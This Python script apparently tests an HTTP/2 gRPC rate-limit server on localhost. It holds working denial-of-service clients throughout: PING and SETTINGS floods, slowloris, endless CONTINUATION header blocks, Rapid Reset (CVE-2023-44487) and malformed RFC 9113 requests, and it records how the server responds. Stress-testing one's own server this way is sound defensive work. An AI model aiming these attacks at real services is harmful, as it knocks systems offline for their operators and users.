#!/usr/bin/python3
"""Hostile HTTP/2 clients, built on python3-h2's stack (h2, hpack, hyperframe): an implementation
independent of the server under test. Each attack prints one JSON object on stdout.

  h2-attack.py flood <port> <ping|settings> <connections> <seconds>
  h2-attack.py slowloris <port> <connections> <seconds>
  h2-attack.py headerblock <port> <connections> <kilobytes> <seconds>
  h2-attack.py nostream <port> <connections> <seconds>
  h2-attack.py rapidreset <port> <streams>
  h2-attack.py malformed <port> <case>

The result names, per connection, how the server ended it: the GOAWAY error code, "closed" (closed
without one) or "open"; for a malformed request, the RST_STREAM or GOAWAY code the server answered.
"""
import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
PATH = '/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit'
GOOD = [
    (':method', 'POST'),
    (':scheme', 'http'),
    (':path', PATH),
    (':authority', 'floodgate'),
    ('content-type', 'application/grpc'),
    ('te', 'trailers'),
]
# A RateLimitRequest { domain: "api", descriptors: [{ entries: [{ key: "remote_address", value: "1" }] }] },
# gRPC-framed.
ENTRY = b'\x0a\x0eremote_address\x12\x011'
DESCRIPTOR = b'\x0a' + bytes([len(ENTRY)]) + ENTRY
MESSAGE = b'\x0a\x03api\x12' + bytes([len(DESCRIPTOR)]) + DESCRIPTOR
GRPC_MESSAGE = b'\x00' + len(MESSAGE).to_bytes(4, 'big') + MESSAGE


def connect(port):
    s = socket.create_connection(('127.0.0.1', port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def client():
    config = h2.config.H2Configuration(
        client_side=True,
        header_encoding='utf-8',
        validate_outbound_headers=False,
        normalize_outbound_headers=False,
        validate_inbound_headers=False,
    )
    conn = h2.connection.H2Connection(config=config)
    conn.initiate_connection()
    return conn


class Reader:
    """Parses what the server sends with hyperframe; remembers GOAWAY and RST_STREAM codes."""

    def __init__(self):
        self.buf = b''
        self.preface_done = True
        self.goaway = None
        self.resets = {}
        self.frames = 0
        self.headers = set()

    def feed(self, data):
        self.buf += data
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                break
            frame.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            self.frames += 1
            if isinstance(frame, GoAwayFrame) and self.goaway is None:
                self.goaway = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                self.resets.setdefault(frame.stream_id, frame.error_code)
            elif isinstance(frame, HeadersFrame):
                self.headers.add(frame.stream_id)


def drain(sock, reader, seconds):
    """Reads until the server closes or `seconds` pass; returns True if it closed."""
    deadline = time.monotonic() + seconds
    sock.setblocking(False)
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return False
        ready, _, _ = select.select([sock], [], [], left)
        if not ready:
            continue
        try:
            data = sock.recv(1 << 20)
        except (ConnectionResetError, BrokenPipeError):
            return True
        except BlockingIOError:
            continue
        if not data:
            return True
        reader.feed(data)


def outcome(reader, closed):
    if reader.goaway is not None:
        return str(reader.goaway)
    return 'closed' if closed else 'open'


def tally(outcomes):
    counts = {}
    for o in outcomes:
        counts[o] = counts.get(o, 0) + 1
    return counts


def flood(port, kind, connections, seconds):
    """Connections that send PING (or SETTINGS) as fast as they can and read nothing, then read."""
    socks = []
    for _ in range(connections):
        s = connect(port)
        conn = client()
        s.sendall(conn.data_to_send())
        s.setblocking(False)
        socks.append(s)
    unit = PingFrame(0, b'12345678').serialize() if kind == 'ping' else SettingsFrame(0).serialize()
    burst = unit * 1000
    sent = [0] * connections
    dead = [False] * connections
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not all(dead):
        live = [s for i, s in enumerate(socks) if not dead[i]]
        _, writable, _ = select.select([], live, [], 0.05)
        for s in writable:
            i = socks.index(s)
            try:
                sent[i] += s.send(burst)
            except (BrokenPipeError, ConnectionResetError, OSError):
                dead[i] = True
    outcomes = []
    for s in socks:
        reader = Reader()
        closed = drain(s, reader, 5)
        outcomes.append(outcome(reader, closed))
        s.close()
    return {'outcomes': tally(outcomes), 'framesSent': sum(sent) // len(unit)}


def slowloris(port, connections, seconds):
    """Connections that, after the preface, send a frame one byte a second."""
    socks = []
    for _ in range(connections):
        s = connect(port)
        conn = client()
        s.sendall(conn.data_to_send())
        s.setblocking(False)
        socks.append((s, Reader()))
    frame = PingFrame(0, b'slowslow').serialize()
    closed = [False] * connections
    start = time.monotonic()
    step = 0
    while time.monotonic() - start < seconds and not all(closed):
        for i, (s, reader) in enumerate(socks):
            if closed[i]:
                continue
            try:
                s.send(frame[step % len(frame):step % len(frame) + 1])
            except (BrokenPipeError, ConnectionResetError, OSError):
                closed[i] = True
                continue
        step += 1
        end = time.monotonic() + 1
        while time.monotonic() < end:
            ready, _, _ = select.select([s for i, (s, _) in enumerate(socks) if not closed[i]] or [], [], [], 0.2)
            for r in ready:
                i = next(j for j, (s, _) in enumerate(socks) if s is r)
                try:
                    data = r.recv(1 << 16)
                except (ConnectionResetError, OSError):
                    data = b''
                if not data:
                    closed[i] = True
                else:
                    socks[i][1].feed(data)
    outcomes = [outcome(reader, closed[i]) for i, (s, reader) in enumerate(socks)]
    for s, _ in socks:
        s.close()
    return {'outcomes': tally(outcomes), 'seconds': round(time.monotonic() - start, 1)}


def headerblock(port, connections, kilobytes, seconds):
    """Connections that each hold an unfinished header block of about `kilobytes` kB."""
    # Encoded once (pure-python HPACK is slow): every connection's decoder starts empty, so one block
    # serves them all.
    block = hpack.Encoder().encode(GOOD + [('x-pad-%d' % i, 'v' * 4000) for i in range(kilobytes // 4)])
    socks = []
    for n in range(connections):
        s = connect(port)
        conn = client()
        s.sendall(conn.data_to_send())
        first = HeadersFrame(1, block[:16000])
        first.flags.add('END_STREAM')
        out = first.serialize()
        for at in range(16000, len(block), 16000):
            out += ContinuationFrame(1, block[at:at + 16000]).serialize()
        # No END_HEADERS anywhere: the block never ends.
        try:
            s.sendall(out)
        except (BrokenPipeError, ConnectionResetError):
            pass
        socks.append(s)
    outcomes = []
    deadline = time.monotonic() + seconds
    for s in socks:
        reader = Reader()
        closed = drain(s, reader, max(0.1, deadline - time.monotonic()))
        outcomes.append(outcome(reader, closed))
        s.close()
    return {'outcomes': tally(outcomes)}


def nostream(port, connections, seconds):
    """Connections that send the preface, then only a PING now and then, and never open a stream."""
    socks = []
    for _ in range(connections):
        s = connect(port)
        conn = client()
        s.sendall(conn.data_to_send())
        socks.append(s)
    outcomes = []
    deadline = time.monotonic() + seconds
    for s in socks:
        reader = Reader()
        closed = drain(s, reader, max(0.1, deadline - time.monotonic()))
        outcomes.append(outcome(reader, closed))
        s.close()
    return {'outcomes': tally(outcomes)}


def rapidreset(port, streams):
    """One connection that opens a stream and resets it at once, over and over (CVE-2023-44487)."""
    s = connect(port)
    conn = client()
    s.sendall(conn.data_to_send())
    reader = Reader()
    sent = 0
    closed = False
    stream_id = 1
    batch = 100
    while sent < streams and reader.goaway is None and not closed:
        out = b''
        for _ in range(batch):
            conn.send_headers(stream_id, GOOD)
            out += conn.data_to_send()
            # The DATA frame built by hand: h2 would wait for window it never learns of (this client
            # reads the server's frames with hyperframe only). The server gives 16 MiB at once.
            message = DataFrame(stream_id, GRPC_MESSAGE)
            message.flags.add('END_STREAM')
            out += message.serialize()
            out += RstStreamFrame(stream_id, error_code=8).serialize()
            stream_id += 2
            sent += 1
        try:
            s.sendall(out)
        except (BrokenPipeError, ConnectionResetError):
            closed = True
            break
        s.setblocking(False)
        try:
            while True:
                data = s.recv(1 << 20)
                if not data:
                    closed = True
                    break
                reader.feed(data)
        except BlockingIOError:
            pass
        except ConnectionResetError:
            closed = True
        s.setblocking(True)
    if not closed:
        closed = drain(s, reader, 5)
    s.close()
    return {'outcome': outcome(reader, closed), 'streamsSent': sent}


def malformed(port, case):
    """One request (or frame sequence) that breaks RFC 9113; the server's answer to it."""
    s = connect(port)
    conn = client()
    encoder = hpack.Encoder()
    out = conn.data_to_send()

    def headers(stream_id, fields, end_stream=True, priority=None):
        frame = HeadersFrame(stream_id, encoder.encode(fields))
        frame.flags.add('END_HEADERS')
        if end_stream:
            frame.flags.add('END_STREAM')
        if priority is not None:
            frame.flags.add('PRIORITY')
            frame.depends_on = priority
            frame.stream_weight = 15
        return frame.serialize()

    def data(stream_id, payload, end_stream=True):
        frame = DataFrame(stream_id, payload)
        if end_stream:
            frame.flags.add('END_STREAM')
        return frame.serialize()

    def without(name):
        return [f for f in GOOD if f[0] != name]

    request = {
        'no-method': lambda: headers(1, without(':method')),
        'no-scheme': lambda: headers(1, without(':scheme')),
        'no-path': lambda: headers(1, without(':path')),
        'unknown-pseudo': lambda: headers(1, GOOD + [(':foo', 'bar')]),
        'duplicate-pseudo': lambda: headers(1, GOOD[:3] + [(':path', '/other')] + GOOD[3:]),
        'pseudo-after-regular': lambda: headers(1, [('content-type', 'application/grpc')] + GOOD),
        'uppercase-name': lambda: headers(1, GOOD + [('X-Upper', '1')]),
        'connection-header': lambda: headers(1, GOOD + [('connection', 'keep-alive')]),
        'te-not-trailers': lambda: headers(1, without('te') + [('te', 'gzip')]),
        'content-length-mismatch': lambda: headers(1, GOOD + [('content-length', '100')], end_stream=False)
        + data(1, GRPC_MESSAGE),
        'all-of-the-issue': lambda: headers(1, [(':path', PATH), ('content-type', 'application/grpc'),
                                                ('connection', 'close'), (':foo', 'bar')]),
        'headers-below-last': lambda: headers(5, GOOD, end_stream=False) + data(5, GRPC_MESSAGE)
        + headers(3, GOOD),
        'data-on-closed': lambda: headers(1, GOOD, end_stream=False) + data(1, GRPC_MESSAGE),
        'priority-self': lambda: headers(1, GOOD, end_stream=False) + PriorityFrame(1, depends_on=1).serialize(),
        'headers-priority-self': lambda: headers(1, GOOD, priority=1),
        'window-exceeded': lambda: headers(1, GOOD, end_stream=False)
        + b''.join(data(1, b'\x00' * 16384, end_stream=False) for _ in range(80)),
    }[case]
    out += request()
    s.sendall(out)
    reader = Reader()
    if case == 'data-on-closed':
        # Wait for the answer (the stream is closed both ways), then send more DATA on it.
        deadline = time.monotonic() + 5
        s.setblocking(False)
        while 1 not in reader.headers or len(reader.headers) == 0:
            if time.monotonic() > deadline:
                break
            ready, _, _ = select.select([s], [], [], 0.1)
            if ready:
                reader.feed(s.recv(1 << 16))
        time.sleep(0.1)
        try:
            reader.feed(s.recv(1 << 16))
        except BlockingIOError:
            pass
        s.setblocking(True)
        s.sendall(data(1, b'late'))
    # Then a good request on a new stream: was the connection kept?
    try:
        s.sendall(headers(101, GOOD, end_stream=False) + data(101, GRPC_MESSAGE))
    except (BrokenPipeError, ConnectionResetError):
        pass
    deadline = time.monotonic() + 5
    closed = False
    s.setblocking(False)
    while time.monotonic() < deadline and 101 not in reader.headers and reader.goaway is None:
        ready, _, _ = select.select([s], [], [], 0.1)
        if not ready:
            continue
        try:
            chunk = s.recv(1 << 16)
        except (ConnectionResetError, BlockingIOError):
            chunk = b''
        if not chunk:
            closed = True
            break
        reader.feed(chunk)
    s.close()
    first = min(reader.resets) if reader.resets else None
    return {
        'goaway': reader.goaway,
        'reset': reader.resets.get(first) if first is not None and first < 101 else None,
        'resetStream': first if first is not None and first < 101 else None,
        'answered': sorted(i for i in reader.headers if i < 101),
        'keptServing': 101 in reader.headers,
        'closed': closed,
    }


def main():
    mode, port, *rest = sys.argv[1:]
    port = int(port)
    if mode == 'flood':
        result = flood(port, rest[0], int(rest[1]), float(rest[2]))
    elif mode == 'slowloris':
        result = slowloris(port, int(rest[0]), float(rest[1]))
    elif mode == 'headerblock':
        result = headerblock(port, int(rest[0]), int(rest[1]), float(rest[2]))
    elif mode == 'nostream':
        result = nostream(port, int(rest[0]), float(rest[1]))
    elif mode == 'rapidreset':
        result = rapidreset(port, int(rest[0]))
    elif mode == 'malformed':
        result = malformed(port, rest[0])
    else:
        raise SystemExit('unknown attack ' + mode)
    print(json.dumps(result))


if __name__ == '__main__':
    main()
